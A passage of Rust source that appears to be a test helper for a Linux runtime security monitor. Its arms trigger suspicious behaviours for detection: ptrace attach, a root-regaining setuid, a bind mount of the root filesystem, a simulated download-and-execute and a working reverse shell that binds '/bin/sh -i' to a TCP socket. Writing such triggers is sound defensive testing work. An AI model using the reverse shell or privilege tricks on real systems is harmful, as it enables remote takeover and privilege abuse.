            let target: i32 = next().parse().unwrap();
            assert_eq!(libc::ptrace(libc::PTRACE_ATTACH, target, 0, 0), 0);
            let mut status = 0;
            libc::waitpid(target, &mut status, libc::__WALL);
            libc::ptrace(libc::PTRACE_DETACH, target, 0, 0);
        },
        "traceme" => unsafe {
            // In a child that exits at once: a traced helper would stop on its way out and
            // leave the test (its tracer) waiting. Only async-signal-safe calls after fork.
            let child = libc::fork();
            if child == 0 {
                libc::ptrace(libc::PTRACE_TRACEME, 0, 0, 0);
                libc::_exit(0);
            }
            let mut status = 0;
            while libc::waitpid(child, &mut status, libc::__WALL) == child
                && !libc::WIFEXITED(status)
                && !libc::WIFSIGNALED(status)
            {
                libc::ptrace(libc::PTRACE_CONT, child, 0, 0);
            }
        },
        "bpf_prog_load" => unsafe {
            // BPF_PROG_LOAD (5) with no attr: refused with EFAULT/EINVAL, but the call is seen.
            libc::syscall(libc::SYS_bpf, 5, std::ptr::null::<u8>(), 0);
        },
        "setuid_root" => unsafe {
            // Real and effective uid 1000, saved uid 0: setuid(0) then succeeds without
            // privilege, the shape of a setuid binary dropping and regaining root.
            assert_eq!(libc::setresuid(1000, 1000, 0), 0);
            assert_eq!(libc::setuid(0), 0);
        },
        "bind_root" => unsafe {
            assert_eq!(libc::unshare(libc::CLONE_NEWNS), 0);
            let (none, root) = (cstr("none"), cstr("/"));
            assert_eq!(
                libc::mount(
                    none.as_ptr(),
                    root.as_ptr(),
                    std::ptr::null(),
                    libc::MS_REC | libc::MS_PRIVATE,
                    std::ptr::null()
                ),
                0
            );
            let target = cstr(&next());
            assert_eq!(
                libc::mount(
                    root.as_ptr(),
                    target.as_ptr(),
                    std::ptr::null(),
                    libc::MS_BIND,
                    std::ptr::null()
                ),
                0
            );
        },
        "download_exec" => {
            let (dest, path) = (next(), next());
            let sock = UdpSocket::bind("0.0.0.0:0").unwrap();
            sock.connect(dest.as_str()).unwrap();
            std::fs::write(&path, std::fs::read("/bin/true").unwrap()).unwrap();
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
            let _ = Command::new(&path).status();
        }
        "udp_connect" => {
            let sock = UdpSocket::bind("0.0.0.0:0").unwrap();
            sock.connect(next().as_str()).unwrap();
        }
        "reverse_shell" => unsafe {
            // The shell lingers a second: userspace resolves what fd 0-2 point at from /proc.
            let sock = TcpStream::connect(next().as_str()).unwrap();
            for fd in 0..=2 {
                libc::dup2(sock.as_raw_fd(), fd);
            }
            let (shell, i, c, script) = (cstr("/bin/sh"), cstr("-i"), cstr("-c"), cstr("sleep 1"));
            let argv = [
                shell.as_ptr(),
                i.as_ptr(),
                c.as_ptr(),
                script.as_ptr(),
                std::ptr::null(),
            ];
            libc::execv(shell.as_ptr(), argv.as_ptr());
            panic!("execv /bin/sh failed");
        },
        "failed_opens" => unsafe {
            let (uid, path, n) = (next(), next(), next());
            let uid: u32 = uid.parse().unwrap();
            assert_eq!(libc::setgroups(0, std::ptr::null()), 0);
            assert_eq!(libc::setgid(uid), 0);
            assert_eq!(libc::setuid(uid), 0);
            for _ in 0..n.parse::<u32>().unwrap() {
                assert!(
                    std::fs::File::open(&path).is_err(),
                    "{path} opened as {uid}"
                );
            }
        },
        other => panic!("unknown helper action {other}"),
    }
}
